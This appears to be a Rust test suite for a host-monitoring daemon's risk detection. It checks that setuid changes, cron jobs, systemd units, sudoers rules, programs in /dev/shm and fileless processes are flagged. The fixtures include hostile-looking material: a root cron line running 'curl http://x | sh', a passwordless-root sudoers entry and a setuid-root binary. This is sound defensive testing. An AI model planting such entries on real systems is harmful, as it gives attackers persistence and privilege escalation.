//! Bad changes of a running host, in `sfd log --json`.

use std::fs;
use std::net::TcpListener;
use std::os::fd::{AsFd, AsRawFd};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use serde_json::Value;
use sfd_tests::daemon::{Daemon, sfd};
use sfd_tests::wait_for;

/// Changes are there within a second; sockets are only looked at every two, and a test machine is busy.
const PATIENCE: Duration = Duration::from_secs(20);

struct Bench {
    _dir: tempfile::TempDir,
    root: PathBuf,
    state: PathBuf,
}

impl Bench {
    /// Where packages and users have nothing, so that the place itself is not worth a word; or below `place`.
    fn at(place: &str) -> Self {
        let dir = tempfile::Builder::new().prefix("sfd-risk-").tempdir_in(place).unwrap();
        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
        let base = fs::canonicalize(dir.path()).unwrap();
        let (root, state) = (base.join("root"), base.join("state"));
        fs::create_dir(&root).unwrap();
        Self { _dir: dir, root, state }
    }

    fn live(&self, more: &[&Path]) -> Daemon {
        let roots: Vec<&Path> = std::iter::once(&*self.root).chain(more.iter().copied()).collect();
        let daemon = Daemon::live(&roots, &self.state, &["--source", "bpf"]);
        assert_eq!(daemon.status().unwrap()["rung"], "bpf", "these tests need root and BPF");
        daemon
    }

    fn log(&self, path: &Path) -> Result<Vec<Value>> {
        let output = sfd(&["log", "--json", "--state"]).arg(&self.state).arg(path).output()?;
        ensure!(output.status.success(), "sfd log: {}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout)?.lines().map(|line| Ok(serde_json::from_str(line)?)).collect()
    }

    /// Waits for a line about `path` with a reason that holds `reason`, of at least that level.
    fn wait_reason(&self, path: &Path, level: u64, reason: &str) -> Value {
        wait_for(reason, PATIENCE, || {
            let lines = self.log(path)?;
            let has = |line: &&Value| {
                let reasons = line["reasons"].as_array().unwrap();
                line["risk"].as_u64() >= Some(level)
                    && reasons.iter().any(|each| each.as_str().unwrap().contains(reason))
            };
            lines.iter().find(has).cloned().with_context(|| format!("{lines:#?}"))
        })
    }
}

fn sh(script: &str) {
    assert!(Command::new("sh").args(["-c", script]).status().unwrap().success(), "{script}");
}

#[test]
fn a_program_that_becomes_set_user_id() {
    let bench = Bench::at("/srv");
    let tool = bench.root.join("tool");
    fs::copy("/bin/true", &tool).unwrap();
    let _daemon = bench.live(&[]);
    // The bit is put on by a process of another user, who owns the program.
    sh(&format!("chown 1234 {0} && setpriv --reuid 1234 --clear-groups chmod 4755 {0}", tool.display()));
    let line = bench.wait_reason(&tool, 2, "has become a set-user-ID program: runs as user 1234");
    let writers = line["writers"].as_array().unwrap();
    assert!(writers.iter().any(|writer| writer["uid"] == 1234), "{line:#}");
    let root = bench.root.join("root");
    sh(&format!("install -m 4755 /bin/true {}", root.display()));
    bench.wait_reason(&root, 3, "set-user-ID program: runs as root whoever starts it");
    let text = sfd(&["log", "--state"]).arg(&bench.state).arg(&root).output().unwrap();
    let text = String::from_utf8(text.stdout).unwrap();
    assert!(text.contains(" [high: ") && text.contains("set-user-ID program"), "{text}");
}

#[test]
fn roots_file_changed_by_somebody_else() {
    let bench = Bench::at("/srv");
    let file = bench.root.join("settings");
    fs::write(&file, "a\n").unwrap();
    let _daemon = bench.live(&[]);
    // Root has opened it and forgotten to close it.
    sh(&format!("exec 3>>{}; setpriv --reuid 1234 --clear-groups sh -c 'echo b >&3'", file.display()));
    let line = bench.wait_reason(&file, 2, "root's file was changed by a process of user 1234");
    assert_eq!(line["verb"], "modified", "{line:#}");
    sh(&format!("chmod 666 {}", file.display()));
    bench.wait_reason(&file, 2, "anyone may change it from now on (mode 0644 -> 0666)");
}

#[test]
fn what_runs_by_itself_from_now_on() {
    let bench = Bench::at("/srv");
    let (cron, units) = (bench.root.join("etc/cron.d"), bench.root.join("etc/systemd/system"));
    for dir in [&cron, &units] {
        fs::create_dir_all(dir).unwrap();
    }
    let _daemon = bench.live(&[]);
    fs::write(cron.join("job"), "* * * * * root curl http://x | sh\n").unwrap();
    bench.wait_reason(&cron.join("job"), 3, "downloads something and runs it unseen (curl | sh)");
    bench.wait_reason(&cron.join("job"), 3, "new: a timed job (cron)");
    fs::write(units.join("x.service"), "[Service]\nExecStart=/bin/true\n").unwrap();
    bench.wait_reason(&units.join("x.service"), 2, "new: a unit of systemd");
    // Taken from somewhere else, it is no less new.
    let (from, to) = (bench.root.join("rules"), bench.root.join("etc/sudoers.d/rules"));
    fs::create_dir(to.parent().unwrap()).unwrap();
    fs::write(&from, "eve ALL=(ALL) NOPASSWD: ALL\n").unwrap();
    bench.wait_line(&from);
    fs::rename(&from, &to).unwrap();
    bench.wait_reason(&to, 2, "eve is root without a password");
}

impl Bench {
    fn wait_line(&self, path: &Path) {
        wait_for("a line", PATIENCE, || {
            ensure!(!self.log(path)?.is_empty(), "nothing of {}", path.display());
            Ok(())
        });
    }
}

#[test]
fn a_program_in_shared_memory() {
    let bench = Bench::at("/dev/shm");
    let _daemon = bench.live(&[]);
    let tool = bench.root.join("tool");
    sh(&format!("install -m 755 /bin/true {}", tool.display()));
    bench.wait_reason(&tool, 3, "a program in /dev/shm");
}

#[test]
fn a_listener_and_processes_without_files() {
    let bench = Bench::at("/srv");
    let _daemon = bench.live(&[Path::new("/proc")]);
    let listener = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let line = bench.wait_reason(Path::new("/proc/net/tcp"), 2, &format!("user 0 listens on 0.0.0.0:{port}"));
    assert!(line["detail"].as_str().unwrap().contains(&format!("+0.0.0.0:{port}")), "{line:#}");
    // Run by a descriptor of a file that has no name any more.
    let file = Path::new("/dev/shm").join(format!("sfd-risk-{}", std::process::id()));
    fs::copy("/bin/sleep", &file).unwrap();
    let open = fs::File::open(&file).unwrap();
    fs::remove_file(&file).unwrap();
    rustix::io::fcntl_setfd(open.as_fd(), rustix::io::FdFlags::empty()).unwrap();
    let mut child = Command::new(format!("/proc/self/fd/{}", open.as_raw_fd())).arg("60").spawn().unwrap();
    let path = PathBuf::from(format!("/proc/{}", child.id()));
    bench.wait_reason(&path, 3, "which was deleted, from /dev/shm");
    child.kill().unwrap();
    child.wait().unwrap();
}
